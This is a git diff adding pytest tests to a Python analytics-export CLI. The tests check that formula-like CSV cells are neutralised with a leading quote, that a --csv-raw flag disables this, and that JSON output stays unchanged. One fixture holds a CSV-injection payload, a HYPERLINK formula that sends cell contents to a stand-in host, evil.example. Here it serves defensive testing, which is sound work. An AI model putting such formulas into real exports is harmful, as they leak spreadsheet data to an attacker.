@@ -1,13 +1,16 @@
 """The command line's output is what the user expects, wherever it goes.
 
 A pipe whose reader has gone (``| head``) ends the command quietly with 141,
-as SIGPIPE would.
+as SIGPIPE would. A CSV cell a spreadsheet would run as a formula is written
+inert, unless ``--csv-raw``.
 """
 
 from __future__ import annotations
 
+import csv
 import errno
 import io
+import json
 import os
 import subprocess
 import sys
@@ -18,9 +21,21 @@ import pytest
 from fathom_events._cli import main
 from fathom_events.testing import FakeFathom
 
-from .test_cli import SYNC_FILE, TOKEN, Ran, subprocess_env
+from .test_cli import SYNC_FILE, TOKEN, Cli, Ran, in_process_cli, subprocess_env
 
 EXIT_BROKEN_PIPE = 141  # 128 + SIGPIPE (13), as a shell reports `yes | head`
+# Names a spreadsheet would run as a formula (OWASP's CSV injection list: =, +, -, @, tab,
+# carriage return at the start), and what the CSV holds for each by default.
+FORMULA_NAMES = {
+    '=HYPERLINK("https://evil.example/?"&A1,"Click")': '\'=HYPERLINK("https://evil.example/?"&A1,"Click")',
+    "+1+1": "'+1+1",
+    "-5% off": "'-5% off",
+    "@SUM(A1:A9)": "'@SUM(A1:A9)",
+    "\t=1+1": "'\t=1+1",
+    "\r=1+1": "'\r=1+1",
+}
+# Names that start no formula, kept as they are.
+PLAIN_NAMES = ["Signed up", "a=b", "5-1", "'quoted", " =1+1"]
 
 
 @pytest.fixture(name="fake")
@@ -34,6 +49,15 @@ def _fake() -> FakeFathom:
 def _url(thread_url: str) -> str:
     """This file's fake, served from a thread (conftest's ``thread_url``)."""
     return thread_url
+
+
+@pytest.fixture(name="cli")
+def _cli(capsys: pytest.CaptureFixture[str], url: str) -> Cli:
+    return in_process_cli(capsys, url)
+
+
+def csv_rows(text: str) -> list[list[str]]:
+    return list(csv.reader(io.StringIO(text, newline="")))
 
 
 def run_into_a_closed_pipe(*args: str, stderr_too: bool = False, buffered: bool = True) -> Ran:
@@ -166,3 +190,84 @@ def test_a_closed_stdout_that_is_no_file_ends_quietly_with_141(
     monkeypatch.setattr(sys, "stdout", _NoReaderStream())
     assert main(["list", "SITE1", "--base-url", url, "--token", TOKEN]) == EXIT_BROKEN_PIPE
     assert capsys.readouterr().err == ""
+
+
+# -- CSV a spreadsheet opens safely ------------------------------------------------------------
+
+
+def test_csv_cells_a_spreadsheet_would_run_start_with_a_quote(cli: Cli, fake: FakeFathom) -> None:
+    """`pull` CSV: a name starting =, +, -, @, tab or CR gets a ' first; ids and dates are kept."""
+    for name in [*FORMULA_NAMES, *PLAIN_NAMES]:
+        fake.add_event("SITE2", name)
+    ran = cli("pull", "SITE1", "SITE2", "--format", "csv")
+    assert ran.code == 0, ran.err
+    rows = csv_rows(ran.out)
+    assert rows[0] == ["site_id", "id", "name", "currency", "created_at"]
+    stored = [(site, event) for site in ("SITE1", "SITE2") for event in fake.events(site)]
+    assert [row[:2] for row in rows[1:]] == [[site, event["id"]] for site, event in stored]
+    assert [row[4] for row in rows[1:]] == [e["created_at"].isoformat() for _, e in stored]
+    names = [row[2] for row in rows[1:]]
+    assert names[:6] == [event["name"] for _, event in stored[:6]]  # seeded: kept as they are
+    assert names[6:] == [*FORMULA_NAMES.values(), *PLAIN_NAMES]
+
+
+def test_csv_raw_writes_every_cell_as_it_is(cli: Cli, fake: FakeFathom, tmp_path: Path) -> None:
+    """`pull --csv-raw` writes names that look like formulas exactly as the API gave them."""
+    for name in FORMULA_NAMES:
+        fake.add_event("SITE2", name)
+    out = tmp_path / "events.csv"
+    ran = cli("pull", "SITE2", "--out", str(out), "--csv-raw")
+    assert ran.code == 0, ran.err
+    with out.open(newline="", encoding="utf-8") as file:
+        names = [row[2] for row in csv.reader(file)][1:]
+    assert names[3:] == list(FORMULA_NAMES)
+
+
+def test_csv_ids_and_site_ids_that_would_run_are_made_inert_too(cli: Cli, fake: FakeFathom) -> None:
+    """No real id starts a formula; one from a hostile server that would gets the ' too."""
+    fake.add_event("+SITE", "Signed up", event_id="=1+1")
+    fake.add_event("+SITE", "Paid", event_id="-2")
+    ran = cli("pull", "+SITE", "--format", "csv")
+    assert ran.code == 0, ran.err
+    assert [row[:3] for row in csv_rows(ran.out)[1:]] == [
+        ["'+SITE", "'=1+1", "Signed up"],
+        ["'+SITE", "'-2", "Paid"],
+    ]
+    raw = cli("pull", "+SITE", "--format", "csv", "--csv-raw")
+    assert [row[:2] for row in csv_rows(raw.out)[1:]] == [["+SITE", "=1+1"], ["+SITE", "-2"]]
+
+
+def test_json_keeps_names_that_look_like_formulas(cli: Cli, fake: FakeFathom) -> None:
+    """JSON is not for spreadsheets: every name is written exactly as the API gave it."""
+    for name in FORMULA_NAMES:
+        fake.add_event("SITE2", name)
+    ran = cli("pull", "SITE2")
+    assert ran.code == 0, ran.err
+    names = [event["name"] for event in json.loads(ran.out)["sites"]["SITE2"]]
+    assert names[3:] == list(FORMULA_NAMES)
+
+
+@pytest.mark.parametrize(
+    "args", [["--csv-raw"], ["--format", "json", "--csv-raw"], ["--out", "x.json", "--csv-raw"]]
+)
+def test_csv_raw_without_csv_is_a_usage_error(
+    cli: Cli, fake: FakeFathom, tmp_path: Path, args: list[str]
+) -> None:
+    """`--csv-raw` for JSON output is a usage error (exit 2) before any request; nothing written."""
+    given = [str(tmp_path / arg) if arg.endswith(".json") else arg for arg in args]
+    ran = cli("pull", "SITE1", *given)
+    assert ran.code == 2
+    assert (
+        ran.err
+        == "fathom-events: pull: --csv-raw is for CSV output (--format csv, or --out FILE.csv)\n"
+    )
+    assert fake.requests == []
+    assert list(tmp_path.iterdir()) == []
+
+
+def test_pull_help_says_what_csv_raw_turns_off(capsys: pytest.CaptureFixture[str]) -> None:
+    """`pull --help` says which cells get a ' and that --csv-raw writes them as they are."""
+    assert main(["pull", "--help"]) == 0
+    text = " ".join(capsys.readouterr().out.split())
+    assert "--csv-raw" in text
+    assert "=, +, -, @, a tab or a carriage return" in text
